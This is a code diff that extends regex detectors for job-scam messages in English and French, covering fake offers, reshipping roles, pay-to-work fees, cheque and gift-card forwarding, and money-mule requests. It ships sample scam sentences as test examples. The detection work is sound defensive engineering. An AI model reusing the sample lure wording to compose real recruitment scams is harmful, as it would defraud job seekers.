@@ -15,7 +15,7 @@ from .lexicon import FREEMAIL, app_name, near
 
 E = Example
 
-__all__ = ["ADDED_SIGNALS", "FRAUD_AND_LURE_SIGNALS", "GATE_GROUPS"]
+__all__ = ["ADDED_SIGNALS", "FRAUD_AND_LURE_SIGNALS", "GATE_GROUPS", "GATE_UNION_MAX"]
 
 _CUR = (r"(?:[$€£₹₦]|\b(?:usd|eur|gbp|chf|cad|aud|usdt|inr|rs|dollars?|euros?|pounds?|francs?"
         r"|rupees?|ksh|kshs|kes|naira|ngn|ghs|cedis?|fcfa|cfa|aed|dirhams?|tk|taka|pesos?|zar)\b)")
@@ -41,8 +41,9 @@ OFFER_WITHOUT_INTERVIEW = PatternSignal(
             r" |our )?(?:[a-z\-]+ ){0,3}" + _ROLE_WORDS + r"\b",
             r"\b(?:you|u)(?: have|'ve| ve)? (?:been )?(?:selected|chosen|hired|approved)"
             r" ?(?:[.!,]|$)",
-            r"\b(?:your )?(?:cv|resume|profile|application) (?:has been|have been|was|is|got)"
-            r" (?:approved|validated|selected|recommended|accepted) (?:by|for)\b",
+            r"\b(?:your |ur )?(?:cv|resume|profile|application) (?:has been|have been|was|is|got)"
+            r" (?:approved|validated|selected|recommended|accepted|chosen|picked|retained)"
+            r" (?:by|for)\b",
             r"\b(?:your|ur) (?:[a-z]+ )?(?:cv|resume)(?: (?:sent|submitted|posted|uploaded)"
             r" (?:to|on) (?:the |our )?[a-z0-9]+)? (?:has been|have been|was|is|got) (?:approved"
             r"|validated) ?(?:[.!,]|$)",
@@ -65,7 +66,19 @@ OFFER_WITHOUT_INTERVIEW = PatternSignal(
             r"\b(?:souhaitons|voulons|allons|avons decide de|sommes heureux de) vous offrir (?:un"
             r"|le|ce|une) (?:[a-z\-]+ ){0,2}(?:poste|emploi|contrat|travail)\b",
             r"\b(?:your|ur) (?:cv|resume|profile) (?:has been|have been|was|got|is) shortlisted\b",
-            r"\b(?:you|u)(?:'re| are| r) hired\b|\b(?:you|u) got the (?:job|position|role)\b",
+            r"\b(?:(?:you|u)(?:'re| are| r| re)|ur|youre) (?:officially |now )?hired\b"
+            r"|\b(?:you|u) got the (?:job|position|role)\b",
+            # the decision already taken, the usual steps waived ("management approved your
+            # hiring", "no need for a call or an assessment", "start whenever you want")
+            r"\b(?:approved|validated|authori[sz]ed|signed off) (?:on )?(?:your|ur) (?:hiring"
+            r"|recruitment|employment|onboarding)\b|\b(?:your|ur) (?:hiring|recruitment"
+            r"|employment) (?:has been|was|is|got) (?:approved|validated|authori[sz]ed)\b",
+            r"\bno need (?:for|of|to (?:do|have|attend|pass|schedule|go through)) (?:a |an |any )?"
+            r"(?:(?:phone |video )?call or (?:an? )?)?(?:job )?(?:interviews?|assessments?"
+            r"|screening|selection process|tests?)\b",
+            r"\boffer(?:ing)? (?:you|u) the (?:role|position|job|post) (?:directly|straight away"
+            r"|right away|on the spot)\b|\bstart (?:working )?whenever (?:you|u) (?:want|like"
+            r"|wish)\b",
             r"\b(?:appointment|employment|job offer) letter\b|\bletter of (?:appointment"
             r"|employment)\b",
             # French
@@ -78,6 +91,16 @@ OFFER_WITHOUT_INTERVIEW = PatternSignal(
             r"\b(?:commencer|debuter|demarrer) (?:des )?(?:aujourd'hui|demain|immediatement"
             r"|maintenant|tout de suite)\b",
             r"\b(?:le|ce) poste est (?:a vous|pour vous|a toi)\b",
+            r"\b(?:annoncer|confirmer) (?:votre|ton) (?:recrutement|embauche|engagement)\b"
+            r"|\b(?:t'es|tu es|vous etes) (?:officiellement )?(?:pris|embauche|engage)(?:e|\(e\))?"
+            r"s? ?(?:[.!,]|$)",
+            r"\bpas (?:besoin|la peine) (?:de passer |d'avoir |de faire )?(?:d'|de |par )?(?:un |un"
+            r"e"
+            r" )?(?:entretiens?|rendez-vous|rdv|entrevues?|tests?|evaluations?)\b|\baucun"
+            r" entretien (?:n'est )?(?:necessaire|requis|prevu)\b",
+            r"\b(?:commencer|commencez|commences|debuter|debutez|debutes|demarrer|demarrez"
+            r"|demarres) quand (?:vous (?:voulez|le souhaitez|voudrez)|tu (?:veux|le souhaites"
+            r"|voudras))\b",
             r"\blettre (?:de nomination|d'engagement|d'embauche)\b",
             r"\brecommande(?:e)? par (?:plusieurs|differentes|de nombreuses) (?:agences|cabinets"
             r"|entreprises)\b",
@@ -101,6 +124,14 @@ OFFER_WITHOUT_INTERVIEW = PatternSignal(
           spans=("sélectionnée pour le poste", "sans entretien")),
         E("Félicitations, votre nom figure sur la liste des retenus pour le recrutement.",
           lang="fr", spans=("votre nom figure sur la liste des retenus",)),
+        E("Our director has signed off on your hiring, so no need for an interview.",
+          spans=("signed off on your hiring", "no need for an interview")),
+        E("gr8 news, ur officially hired, start whenever you like",
+          spans=("ur officially hired", "start whenever you like")),
+        E("Nous sommes ravis de confirmer votre embauche, pas besoin d'entretien.", lang="fr",
+          spans=("confirmer votre embauche", "pas besoin d'entretien")),
+        E("C'est bon, t'es embauchée ! Tu peux débuter quand tu veux.", lang="fr",
+          spans=("t'es embauchée !", "débuter quand tu veux")),
     ),
     counterexamples=(
         E("Thanks for applying: you've been shortlisted for an interview next week.",
@@ -108,6 +139,10 @@ OFFER_WITHOUT_INTERVIEW = PatternSignal(
         E("Could you send me your updated CV?"),
         E("Suite à votre candidature, vous êtes retenue pour un entretien mardi.", lang="fr"),
         E("La liste des admis au concours est publiée sur le site du ministère.", lang="fr"),
+        E("No need for a cover letter; the first step is a 30-minute call with me.",
+          note="waives a document, not the interview"),
+        E("Pas besoin de lettre de motivation, un simple échange téléphonique suffit.",
+          lang="fr"),
     ),
 )
 
@@ -128,8 +163,26 @@ LOW_SKILL_REMOTE_ROLE = PatternSignal(
             r"|inspect|inspecting) (?:the |of )?(?:packages|parcels|goods|items|shipments"
             r"|products)\b",
             r"\b(?:receive|receiving) (?:and (?:re-?ship|forward|send|inspect)|packages|parcels)\b",
-            r"\b(?:package|parcel|shipping|reshipping) (?:inspector|handler|forwarder|manager"
+            r"\b(?:package|parcel|shipping|reshipping) (?:(?:inspection|handling|forwarding"
+            r"|receiving|reception) )?(?:inspector|handler|forwarder|manager"
             r"|coordinator|agent|receiver)s?\b",
+            # parcels received at home and sent on (the reshipping job described, not named)
+            r"\b(?:receive|receiving|accept|accepting) (?:the |some |our |incoming )?(?:items"
+            r"|packages|parcels|goods|merchandise|shipments) (?:at|in|to) (?:your|ur) (?:home"
+            r"|house|address|place|apartment|residence)\b",
+            r"\b(?:re-?label|re-?pack(?:age)?)\w{0,4} (?:them|the (?:items|packages|parcels|goods"
+            r"|boxes)),? (?:and |then )?(?:send|ship|forward|post|mail)\b",
+            # data entry described, not named: typing or pasting forms into a spreadsheet
+            r"\b(?:typ(?:e|ing)|retyp(?:e|ing)|key(?:ing)? in|copy[ /\-]?(?:and |& )?past(?:e|ing)"
+            r"|transcrib(?:e|ing)|enter(?:ing)?) (?:(?:scanned|handwritten|paper|the|some|these"
+            r"|customer|client|basic|simple|their|our|pdf)\s){0,3}(?:forms?|data|information|info"
+            r"|records|details|text|entries|receipts|invoices|surveys) (?:from (?:(?:the|scanned"
+            r"|paper|our|some)\s){0,2}(?:pdfs?|forms|documents|images|scans|paper)|into (?:a |an "
+            r"|our |the )?(?:spreadsheets?|excel|google sheets?|database))\b",
+            r"\berrands? (?:coordinator|runner|assistant|agent|manager)s?\b|\bhandl\w{0,3}"
+            r" (?:small |some |minor )?(?:payments|purchases|transactions) on (?:his|her|my|their)"
+            r" behalf\b",
+            r"\b(?:store|shop|restaurant) (?:tester|evaluator)s?\b|\bsecret (?:customer|buyer)s?\b",
             r"\b(?:mystery|secret) shop(?:per|pers|ping)\b",
             r"\b(?:personal|business|my|our|daily) (?:(?:and|&) business )?errands\b"
             r"|\brun(?:ning)? errands\b",
@@ -137,12 +190,36 @@ LOW_SKILL_REMOTE_ROLE = PatternSignal(
             r"|post|packages|parcels|deliveries)\b|\bpay (?:my|our) bills\b",
             r"\b(?:stickers?|decals?|wraps?|adverts?|ads|logos?) on (?:your|ur) (?:car|vehicle"
             r"|truck|auto)\b|\b(?:car|vehicle|auto) (?:wrap|wrapping|sticker|decal)s?\b",
-            r"\b(?:administrative|admin|office|executive) assistants?\b",
+            r"\b(?:administrative|admin|office) assistants?\b",
+            # an executive assistant (to a named executive, on site) is a senior real job;
+            # remote or home-based it is the cover RED-FLAGS F2 describes
+            r"\b(?:remote|virtual|online|home-based|home based|work-from-home|part-time"
+            r"|part time) (?:[a-z\-]+ )?executive assistants?\b"
+            r"|\bexecutive assistants? (?:(?:role|position|job) )?(?:from home|working from home"
+            r"|remotely|online)\b",
             r"\b(?:payment|payments|money|funds) (?:processing |transfer |collection )?(?:agent"
             r"|processor|representative|officer|coordinator|clerk)s?\b",
             r"\b(?:local|regional) (?:payment )?processors?\b|\bfinancial agents?\b",
             # French
             r"\bassistante? (?:personnelle?|virtuelle?|privee?)\b",
+            r"\b(?:secretaire|assistante?|assistant\(e\))(?: (?:administrati\w+|personnel\w*"
+            r"|de direction))? (?:a distance|en teletravail|a domicile)\b",
+            r"\b(?:recopier|recopiez|saisir|saisissez|taper|tapez|retranscrire|retranscrivez"
+            r"|encoder|encodez|copier-coller|copiez-collez)(?: [\w'-]+){0,5} (?:dans|sur|vers)"
+            r" (?:un|une|le|la|notre|nos|des|les) (?:tableurs?|tableaux? excel|fichiers? excel"
+            r"|excel|feuilles? de calcul|bases? de donnees|google sheets?)\b",
+            r"\brecev\w{0,4} (?:des |les )?(?:colis|paquets|marchandises|articles|produits)"
+            r" (?:chez (?:vous|toi)|a (?:votre|ton) domicile)\b|\b(?:renvoy|reexpedi|reexped|expedi"
+            r")"
+            r"\w{0,6} (?:a|vers) (?:l'adresse|une adresse|des adresses|les adresses) (?:que nous"
+            r"|qu'on|indiquee|fournie|communiquee)",
+            r"\b(?:logisticien|agent logistique|gestionnaire de colis|preparat(?:eur|rice) de colis"
+            r")"
+            r"\w{0,2} (?:a domicile|en teletravail|depuis chez (?:vous|toi|soi))\b",
+            r"\b(?:testeu(?:r|se)|evaluat(?:eur|rice)|enqueteu(?:r|se))s? (?:de |des |en )?"
+            r"(?:magasins?|boutiques?|points de vente|enseignes?)\b|\b(?:visites?|acheteu(?:r|se)s?"
+            r")"
+            r" mystere\b",
             r"\bsaisie de donnees\b|\bagente? de saisie\b",
             r"\b(?:reception|receptionner|recevoir) (?:et (?:reexpedi|renvo|expedi)\w{0,8}|de colis"
             r"|des colis)\b|\breexpedi\w{0,8} (?:de |des |les )?colis\b",
@@ -161,10 +238,28 @@ LOW_SKILL_REMOTE_ROLE = PatternSignal(
         E("Poste d'assistante personnelle et réception de colis à domicile.", lang="fr",
           spans=("assistante personnelle", "réception de colis")),
         E("Mission de client mystère, rémunérée.", lang="fr", spans=("client mystère",)),
+        E("The job: keying in handwritten receipts into a spreadsheet, plus you will receive "
+          "shipments at your home, repack them and ship them to buyers.",
+          spans=("keying in handwritten receipts into a spreadsheet",
+                 "receive shipments at your home", "repack them and ship")),
+        E("We need a home-based executive assistant, and shop evaluators for weekend visits.",
+          spans=("home-based executive assistant", "shop evaluators")),
+        E("Travail simple : taper des fiches clients dans un tableur, depuis chez vous.",
+          lang="fr", spans=("taper des fiches clients dans un tableur",)),
+        E("Vous recevrez des paquets à votre domicile et les réexpédierez à l'adresse indiquée "
+          "par notre service ; poste de secrétaire en télétravail.", lang="fr",
+          spans=("recevrez des paquets à votre domicile", "réexpédierez à l'adresse indiquée",
+                 "secrétaire en télétravail")),
     ),
     counterexamples=(
         E("We're hiring a senior payments engineer for our card-processing platform."),
         E("Poste d'ingénieur logistique, gestion des entrepôts, CDI.", lang="fr"),
+        E("We're recruiting an Executive Assistant to our CFO, on site in Leeds, full time.",
+          note="a real executive-assistant job, on site"),
+        E("As data engineer you will move records from legacy systems into our warehouse."),
+        E("Vous saisirez les informations dans notre CRM et suivrez les clients.", lang="fr",
+          note="an ordinary sales-admin task, no spreadsheet-typing job"),
+        E("You'll receive the equipment at your home address before your first day."),
     ),
 )
 
@@ -184,14 +279,34 @@ EASY_MONEY = PatternSignal(
             _CUR + r" ?" + _NUM + r"(?: ?(?:-|to|a) ?" + _NUM + r")? ?(?:k )?(?:[a-z]{1,10} )?"
             r"(?:per|a|/|each|every) ?(?:task|order|review|click|like|video|post)\b",
             r"\b" + _NUM + r"(?: ?(?:-|to|a) ?" + _NUM + r")? ?(?:k )?" + _CUR + r" ?(?:per|a|/"
-            r"|each|every|par) ?(?:task|order|review|click|like|video|post|tache|mission)\b",
+            r"|each|every|par|la|le|l') ?(?:task|order|review|click|like|video|post|tache|mission"
+            r"|capture|avis|commande)\b",
+            # pay counted per piece of work, without the amount next to it
+            r"\b(?:pays?|paid|payment|earn|earns|earning) (?:you |u )?(?:per|for each|for every"
+            r"|on each|on every) (?:completed |finished |single |validated )?(?:task|assignment"
+            r"|order|review|mission|survey|rating)\b"
+            r"|\b(?:paye|payee|remunere|remuneree|payes|remuneres)s? (?:a la|par|pour chaque)"
+            r" (?:tache|mission|commande|avis) (?:realisee?|terminee?|effectuee?|validee?)\b",
+            # anyone can do it: beginners welcome
+            r"\b(?:beginners?|novices?|newbies?) (?:are |is )?(?:welcome|accepted)\b|\b(?:even )?(?"
+            r":a |an )?(?:complete|total|absolute) (?:beginner"
+            r"|novice)s? can\b"
+            r"|\bdebutante?s? (?:bienvenue?s?|acceptee?s?)\b|\bmeme (?:les |un |une )?debutante?s?"
+            r" (?:peuvent|peut)\b",
+            r"\barrondir (?:vos|tes|ses|les|mes) fins de mois\b|\bsupplement (?:your|ur) (?:income"
+            r"|salary|earnings|wages)\b",
+            r"\b(?:activite|job|travail|emploi|boulot) (?:complementaire|secondaire|d'appoint)"
+            r" (?:tres |hyper |super |extremement )?(?:rentable|lucrative?|bien payee?)\b"
+            r"|\b(?:very |highly |extremely |super )?(?:profitable|lucrative) (?:side )?(?:activity"
+            r"|job|hustle|gig|opportunity) (?:from home|on the side|in your spare time)\b",
             r"\b(?:from|between|de|entre) " + _CUR + r"? ?" + _NUM + r" ?(?:k )?" + _CUR
             + r"? ?(?:to|and|a|et) " + _CUR + r"? ?" + _NUM + r" ?(?:k )?" + _CUR
             + r"? ?(?:(?:per|a|/|par) ?(?:day|jour)\b|daily\b|quotidiens?\b)",
             r"\b(?:only|just|all) (?:you )?(?:need|needs|require|required) (?:is )?(?:a|your|ur)"
             r" (?:phone|smartphone|mobile|cell ?phone)\b",
             r"\b(?:paid|payment|pay|payout|earnings|salary|commission)s?(?: is| are)?"
-            r" (?:daily|the same day|same[- ]day|every day|each day|instantly|weekly in advance)\b",
+            r" (?:daily|the same day|same[- ]day|the same evening|same night|every day|each day"
+            r"|instantly|weekly in advance)\b",
             r"\b(?:only |just )?(?:[1-4]|one|two|three|a few|few|couple of|1-2|2-3|1 to 2|2 to 3"
             r"|[1-6]0 ?min(?:utes)?|a few minutes) ?(?:hours?|hrs?|h)? ?(?:a|per|each|every|/)"
             r" ?day\b",
@@ -231,7 +346,11 @@ EASY_MONEY = PatternSignal(
             r"|supplementaires?|d'appoint)\b",
             r"\bformation (?:offerte|gratuite|fournie|assuree)\b",
             r"\bliberte d'horaires?\b|\bhoraires libres\b",
-            r"\b(?:paye|payee|payes|paiement|remuneration|remunere)e?s? (?:le jour meme|chaque jour"
+            r"\baucune? (?:experience|competence|qualification|connaissance)s?"
+            r" (?:particuliere |prealable )?(?:n'est )?(?:requise?|necessaire|exigee?|demandee?)s?"
+            r"\b",
+            r"\b(?:paye|payee|payes|paiement|remuneration|remunere)e?s? (?:le soir meme"
+            r"|le jour meme|chaque jour"
             r"|tous les jours|quotidien(?:ne)?(?:ment)?|journalier(?:e)?|immediat(?:e)?)\b",
             r"\bdepuis (?:votre|ton) (?:telephone|smartphone|portable|canape|lit)\b",
             r"\b(?:faisable|realisable|a faire|travailler|travail) (?:depuis|sur|avec)"
@@ -259,6 +378,13 @@ EASY_MONEY = PatternSignal(
           spans=("De 100 à 1 000 euros par jour", "sans expérience", "quelques heures par jour")),
         E("Pay is $25 per task, you can make $300 per day.",
           spans=("$25 per task", "make $300 per day")),
+        E("You get paid for each validated survey, beginners welcome, payout the same evening.",
+          spans=("paid for each validated survey", "beginners welcome",
+                 "payout the same evening")),
+        E("Boulot d'appoint très rentable, 15 € la commande, débutants bienvenus.", lang="fr",
+          spans=("Boulot d'appoint très rentable", "15 € la commande", "débutants bienvenus")),
+        E("Idéal pour arrondir vos fins de mois, aucune expérience requise.", lang="fr",
+          spans=("arrondir vos fins de mois", "aucune expérience requise")),
     ),
     counterexamples=(
         E("We offer a $2,000 annual budget for training and conferences.",
@@ -274,6 +400,11 @@ EASY_MONEY = PatternSignal(
           note="weekly pay of a real contract"),
         E("Mission de 6 mois, TJM 650-700 € par jour, deux jours sur site.", lang="fr",
           note="a contractor day rate"),
+        E("Everyone is welcome to apply; the role suits an engineer with five years' "
+          "experience.", note="an inclusive hiring line, no beginners promise"),
+        E("Freelance translator, paid per project on invoice, 30-day terms."),
+        E("Aucun diplôme n'est exigé pour candidater, mais 3 ans d'expérience en Java le sont.",
+          lang="fr"),
     ),
 )
 
@@ -287,7 +418,10 @@ _COMPANY_PAYS = (
     r"|cost)\b|\bfree of charge\b"
     r"|\bwe(?:'ll| will)? (?:cover|pay for|sponsor|handle|take care of|provide|ship|send|courier)"
     r"\b"
-    r"|\b(?:jamais|aucuns?) (?:de )?frais\b|\bgratuite?s?\b|\bpris en charge par (?:nous"
+    r"|\b(?:jamais|aucuns?) (?:de )?frais\b|\bgratuite?s?\b"
+    r"|\b(?:prend|prendra|prendront|prennent|prenons|prendrons) (?:entierement |integralement )?"
+    r"en charge\b|\b(?:rien|aucun frais|aucune somme) a (?:avancer|payer|regler|debourser)\b"
+    r"|\bpris en charge par (?:nous"
     r"|l'entreprise|la societe|l'employeur)\b|\ba (?:nos|la charge de l'employeur) frais\b"
 )
 PAY_TO_WORK = PatternSignal(
@@ -320,15 +454,41 @@ PAY_TO_WORK = PatternSignal(
             r"\b(?:buy|purchase|order) (?:the |your |ur |some |all )?(?:needed |required "
             r"|necessary )?"
             r"(?:equipment|software|laptop|materials|supplies|kit|license|licence|devices?|office"
-            r" equipment)s? (?:from|through|via) (?:our|the|a|an|my) (?:vendor|supplier|partner"
-            r"|approved|designated|preferred|certified|store|shop)\b",
+            r" equipment|home[- ]office(?: set[- ]?up| equipment| kit| furniture)?|set[- ]?up"
+            r"|workstation|hardware|computer|tools)s? (?:from|through|via) (?:our|the|a|an|my)"
+            r" (?:vendor|supplier|partner|approved|designated|preferred|certified|store|shop)\b",
             near(r"\b(?:pay|fee|deposit|payment|transfer|send)\b",
                  r"\bto (?:secure|reserve|hold|confirm|activate|unlock|guarantee) (?:your |the "
                  r"|a )?"
                  r"(?:position|place|spot|slot|job|role|account|contract|start date|seat)\b"),
-            r"\b(?:reimburs|refund)\w{0,4} (?:you )?(?:later|afterwards|after|once|in|with|on|from)"
+            r"\b(?:(?:reimburs|refund)\w{0,4} (?:you )?|(?:added|paid|credited|given) back )(?:late"
+            r"r"
+            r"|afterwards|after|once|in|with|on|onto|to|into|from)"
             r" (?:your |the )?(?:first|1st|next)? ?(?:pay|paycheck|paycheque|salary|payslip|payday"
             r"|month|week|wage)\b",
+            # the purpose first ("to secure your place, please send..."); a payment the candidate
+            # makes "to cover" a check, visa or training
+            near(r"\bto (?:secure|reserve|hold|confirm|activate|unlock|guarantee)"
+                 r" (?:your |the |a )?(?:position|place|spot|slot|job|role|account|contract"
+                 r"|start date|seat)\b",
+                 r"\b(?:pay|fee|deposit|payment|wire)\b|\b(?:send|transfer)\b[^.!?;]{0,20}"
+                 + _CUR),
+            near(r"\b(?:please|kindly|pls|just|you (?:must|need to|have to|should|will need to"
+                 r"|are required to)) (?:pay|send|transfer|deposit|wire)\b",
+                 r"\bto cover (?:the |your )?(?:(?:cost|price) of (?:the |your )?)?(?:[a-z\-]+ ){0,"
+                 r"2}"
+                 r"(?:vetting|checks?|clearance|training|registration|uniforms?|visas?|certificatio"
+                 r"n"
+                 r"|processing|insurance|kit|materials|equipment|permit)\b"),
+            # a cost the candidate must send on ("costs 450, which must be transferred to our
+            # agent")
+            r"(?:" + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR + r"),? (?:which|that)"
+            r" (?:must|has to|needs to|should|will need to|is to) be (?:paid|transferred|sent|wired"
+            r"|settled|deposited|remitted) (?:by you|upfront|up front|in advance|first|before|to"
+            r" (?:us|our|the|my|an?))\b",
+            r"\b(?:must|has to|needs to|will need to|is to) be (?:paid|transferred|wired|deposited"
+            r"|remitted) to (?:our|the|my) (?:[a-z\-]+ ){0,2}(?:agent|agency|vendor|lawyer"
+            r"|consultant|representative|trainer|supplier)\b",
             # French
             r"\bfrais (?:de |d')(?:formation|dossier|inscription|adhesion|ouverture|gestion"
             r"|traitement|activation|materiel|equipement|visa)\b|\bfrais administratifs\b",
@@ -349,9 +509,27 @@ PAY_TO_WORK = PatternSignal(
             r"\b(?:acompte|caution|frais|participation|cotisation|avance)(?: \w+){0,2}"
             r"(?: de (?:" + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR + r"))? (?:est|sont"
             r"|sera|seront) (?:demande|exige|requis|a regler|a payer|a verser|obligatoire)e?s?\b",
-            r"\bil (?:vous )?(?:faut|faudra|faudrait) (?:d'abord |au prealable |prealablement )?"
+            r"\b(?:il (?:vous |te )?)?(?:faut|faudra|faudrait) (?:d'abord |au prealable"
+            r" |prealablement |juste |seulement |simplement )?"
             r"(?:payer|verser|regler|debourser) (?:un |une |des |les |le |la |vos |votre )?"
             r"(?:acompte|caution|frais|somme|montant|participation|cotisation|" + _NUM + r")",
+            # an amount "of" a fee ("89 EUR d'ouverture de compte", "120 EUR de certification")
+            r"(?:" + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR + r") (?:de |d')(?:frais"
+            r"|formation|certification|inscription|dossier|ouverture|activation|adhesion|caution"
+            r"|materiel|kit)\b",
+            r"\b(?:merci de|veuillez|pensez a|il suffit de) (?:nous |me )?(?:regler|payer|verser"
+            r"|debourser|virer) (?:un |une |des |les |le |la |vos |votre )?(?:" + _NUM + r"|frais"
+            r"|acompte|caution|somme|montant|participation|cotisation)",
+            near(r"\bpour (?:debloquer|valider|reserver|securiser|garantir|confirmer|activer)"
+                 r" (?:votre|ton|ta) (?:poste|place|inscription|candidature|embauche|contrat"
+                 r"|compte)\b",
+                 r"\b(?:payer|regler|verser|debourser|virer|payez|reglez|versez|frais|acompte"
+                 r"|caution)\b"),
+            near(r"\b(?:payer|regler|verser|debourser|virer|payez|reglez|versez|frais|acompte"
+                 r"|caution)\b",
+                 r"\bpour (?:debloquer|valider|reserver|securiser|garantir|confirmer|activer)"
+                 r" (?:votre|ton|ta) (?:poste|place|inscription|candidature|embauche|contrat"
+                 r"|compte)\b"),
             r"\b(?:vous|tu) (?:devez|devrez|devriez|dois|devras|aurez a|auras a) (?:d'abord |au"
             r" prealable |prealablement |juste )?(?:payer|verser|regler|debourser|acheter|envoyer)"
             r" (?:un |une |des |les |le |la |vos |votre |tes |ton )?(?:[a-z]+ )?(?:frais|acompte"
@@ -379,6 +557,16 @@ PAY_TO_WORK = PatternSignal(
           spans=("Il faudra payer 50",)),
         E("Vous devez d'abord acheter le kit à 89 € sur notre boutique.", lang="fr",
           spans=("Vous devez d'abord acheter le kit",)),
+        E("To reserve your seat in the training, pls transfer 60 USD today.",
+          spans=("To reserve your seat in the training, pls transfer 60 USD",)),
+        E("Kindly wire $75 to cover the DBS check.", spans=("Kindly wire $75 to cover the DBS "
+                                                            "check",)),
+        E("The licence costs $300, which has to be paid upfront.",
+          spans=("$300, which has to be paid upfront",)),
+        E("Il faut juste régler 40 € pour commencer : 40 € de certification.", lang="fr",
+          spans=("faut juste régler 40", "40 € de certification")),
+        E("Pour confirmer ton inscription, merci de verser la caution.", lang="fr",
+          spans=("Pour confirmer ton inscription, merci de verser",)),
     ),
     counterexamples=(
         E("We'll courier you a company laptop before day one."),
@@ -390,6 +578,12 @@ PAY_TO_WORK = PatternSignal(
         E("A signing bonus of $5,000 will be paid to you after 90 days."),
         E("Vos frais de déplacement sont remboursés par l'entreprise.", lang="fr"),
         E("Vous devrez envoyer votre candidature avant le 15 mars.", lang="fr"),
+        E("To confirm your start date, please send us the signed contract."),
+        E("Pour valider votre candidature, envoyez votre CV avant vendredi.", lang="fr"),
+        E("L'entreprise prendra en charge vos frais de formation ; vous n'aurez rien à payer.",
+          lang="fr", note="the company pays"),
+        E("The certification costs $300, which is reimbursed by the company.",
+          note="a cost the company bears"),
     ),
 )
 
@@ -421,20 +615,41 @@ CHEQUE_FORWARDING = PatternSignal(
             r"\b(?:send|wire|transfer|forward|remit|return|zelle|pay) (?:back )?(?:the )?(?:balance"
             r"|remainder|rest|remaining (?:amount|funds|money)|excess|difference|overpayment"
             r"|surplus)\b",
-            r"\b(?:pay|send|transfer|wire) (?:it |the (?:funds|money) )?(?:to )?(?:our|the|a)"
-            r" (?:vendor|supplier|preferred agent|designated vendor|approved vendor)\b",
+            r"\b(?:pay|send|transfer|wire|remit) (?:it |the (?:funds|money|rest|remainder) |(?:"
+            + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR + r") )?(?:on )?(?:to )?"
+            r"(?:our|the|a) (?:[a-z\-]+ )?(?:vendor|supplier|preferred agent|designated vendor"
+            r"|approved vendor)\b",
+            # the fake cheque "clearing", then cashed and passed on
+            r"\b(?:once|when|after|as soon as) (?:it|the (?:check|cheque|funds?|payment|deposit))"
+            r" (?:clears?|ha(?:s|ve) cleared|is cleared|are cleared|reflects|hits? your account),?"
+            r" (?:please |then |just )?"
+            r"(?:transfer|send|wire|forward|pay|buy|purchase|withdraw|remit)\b",
+            near(r"\b(?:checks?|cheques?|money orders?)\b",
+                 r"\b(?:cash|deposit|encash) (?:it|them)\b", r"[^.!?;]{0,40}"),
             r"\b(?:buy|purchase|get) (?:some |the |a few |[0-9]{1,2} )?(?:gift ?cards?|vouchers?"
             r"|steam cards?"
             r"|itunes cards?|apple cards?|google play cards?)\b",
+            r"\b(?:buy|purchase) (?:some |a few |[0-9]{1,2} |a couple of )?(?:[a-z]+ ){0,2}gift"
+            r" ?cards?\b|\b(?:paysafecard|neosurf|transcash)\b",
+            r"\b(?:send|text|email|share)(?: me| us)? (?:a |the )?(?:pics?|photos?|pictures?|images"
+            r"?"
+            r"|scans?) of (?:the )?(?:back of (?:the |each )?(?:gift )?cards?|back|codes?|gift card"
+            r"s?)"
+            r"\b",
             r"\b(?:send|text|email|share|scratch)(?: me| us)? (?:the "
             r"|all )?(?:gift card )?(?:codes?"
             r"|pins?|card numbers?)\b",
             # French
             r"\bencaiss\w{0,6} (?:un |le |ce |les |des )?cheques?\b",
             near(r"\b(?:cheques?)\b", r"\b(?:encaiss|depos)\w{0,6}", r"[^.!?]{0,30}"),
+            r"\b(?:encaiss|depos|remett)\w{0,6} (?:les |des |un |le |ce |vos |nos )?cheques?\b"
+            r"|\bremett\w{0,5}(?:-le|-les| le| les)? (?:a|dans|sur) (?:votre|ta) (?:banque|compte)"
+            r"\b",
             r"\b(?:reverser|reversez|renvoyer|renvoyez|transferer|transferez|virer|virez|envoyer"
-            r"|envoyez|rendre|rendez) (?:une partie|le reste|le solde|la difference|l'excedent"
-            r"|le surplus|le trop-percu)\b",
+            r"|envoyez|rendre|rendez|restituer|restituez)(?:-nous|-moi| nous| moi| nous en)?"
+            r" (?:une partie|le reste|le solde|la difference|l'excedent|le surplus|le trop-percu"
+            r"|les fonds|l'argent|la somme)\b",
+            r"\b(?:coupons?|recharges?|tickets?) (?:pcs|transcash|neosurf|paysafecard|toneo)\b",
             r"\bmandat cash\b",
             r"\b(?:moneygram|money gram|western union|ria money transfer)\b",
             r"\bcartes? (?:cadeaux?|prepayees?|pcs|transcash|neosurf|google play|itunes)\b",
@@ -450,6 +665,13 @@ CHEQUE_FORWARDING = PatternSignal(
           spans=("We will send you a check. Use it to buy",)),
         E("Vous allez encaisser un chèque puis reverser une partie par mandat cash.", lang="fr",
           spans=("encaisser un chèque", "reverser une partie", "mandat cash")),
+        E("A money order is on its way; when the funds clear, buy the laptop. Then remit $900 "
+          "to the logistics vendor.", spans=("when the funds clear, buy",
+                                             "remit $900 to the logistics vendor")),
+        E("Please purchase two Razer gift cards and email us photos of the back of the cards.",
+          spans=("purchase two Razer gift cards", "photos of the back of the cards")),
+        E("Remettez le chèque à votre banque, puis restituez-nous les fonds en tickets Neosurf.",
+          lang="fr", spans=("Remettez le chèque", "restituez-nous les fonds", "tickets Neosurf")),
     ),
     counterexamples=(
         E("Salary is paid monthly by bank transfer through payroll."),
@@ -459,6 +681,10 @@ CHEQUE_FORWARDING = PatternSignal(
         E("We'll send you a check at the office address."),
         E("We will send you a check for your first week; please set up direct deposit later."),
         E("Once you set up your account, we will send you a check for your travel expenses."),
+        E("The background check takes a week; once it clears, we'll send your contract.",
+          note="a background check clearing, nothing to pass on"),
+        E("Remettez le dossier signé à votre manager ; la prime est versée sur votre compte.",
+          lang="fr", note="a document handed in, no cheque"),
     ),
 )
 
@@ -476,14 +702,27 @@ MONEY_MULE = PatternSignal(
             r"|collecting) (?:customer |client |incoming |our )?(?:payments?|funds|money|transfers?"
             r"|deposits?|wires?|donations) (?:into|on|to|through|via|in|using) (?:your|a"
             r" personal|your personal|your own|a new) (?:bank )?(?:account|bank)\b",
-            r"\b(?:use|using|lend|rent|borrow) (?:of )?your (?:bank |personal |own |checking"
-            r" |savings )?(?:bank account|account details|accounts|card)\b",
+            r"\b(?:use|using|lend|rent|borrow) (?:of )?(?:your|ur) (?:bank |personal |own |checking"
